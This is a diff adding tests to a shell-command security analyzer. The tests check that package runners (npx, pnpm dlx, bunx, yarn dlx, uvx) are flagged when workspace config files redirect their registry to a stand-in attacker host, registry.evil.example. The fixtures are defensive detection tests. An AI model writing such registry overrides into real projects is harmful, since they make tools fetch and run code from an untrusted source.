@@ -108,3 +108,48 @@ describe('nothing is marked', () => {
     expect(fetched('npx ls')).toEqual([]);
   });
 });
+
+describe("a fetched package comes from the registry the workspace's configuration names", () => {
+  /** A workspace at /home/u/proj holding these files (absolute path to text); no package installed. */
+  const files =
+    (texts: Record<string, string>) =>
+    (abs: string): ScriptFile =>
+      Object.hasOwn(texts, abs) ? { kind: 'text', text: texts[abs] as string } : { kind: 'missing' };
+  const categories = (command: string, texts: Record<string, string>) =>
+    analyzeShellSync(command, shellEnv({ cwd: '/home/u/proj', readScript: files(texts) })).hits.map(
+      (h) => h.category,
+    );
+  const EVIL = 'http://registry.evil.example/';
+
+  it.each<[string, string, Record<string, string>]>([
+    ['npx, .npmrc', 'npx prettier --check .', { '/home/u/proj/.npmrc': `registry=${EVIL}\n` }],
+    [
+      'pnpm dlx, a scoped registry',
+      'pnpm dlx @acme/cli',
+      { '/home/u/proj/.npmrc': `@acme:registry=${EVIL}\n` },
+    ],
+    [
+      'bunx, bunfig.toml',
+      'bunx prettier .',
+      { '/home/u/proj/bunfig.toml': `[install]\nregistry = "${EVIL}"\n` },
+    ],
+    [
+      'yarn dlx, .yarnrc.yml',
+      'yarn dlx prettier .',
+      { '/home/u/proj/.yarnrc.yml': `npmRegistryServer: "${EVIL}"\n` },
+    ],
+    ['uvx, uv.toml', 'uvx ruff check .', { '/home/u/proj/uv.toml': `index-url = "${EVIL}simple"\n` }],
+  ])('%s', (_n, command, texts) => {
+    expect(categories(command, texts)).toContain('package_install_from_unstated_source');
+  });
+
+  it('the default registry, or a package installed, fetches nothing from elsewhere', () => {
+    const npmrc = { '/home/u/proj/.npmrc': 'registry=https://registry.npmjs.org/\n' };
+    expect(categories('npx prettier --check .', npmrc)).toEqual([]);
+    const installed = {
+      '/home/u/proj/.npmrc': `registry=${EVIL}\n`,
+      '/home/u/proj/node_modules/.bin/prettier': '#!/usr/bin/env node\n',
+    };
+    expect(categories('npx prettier --check .', installed)).toEqual([]);
+  });
+});
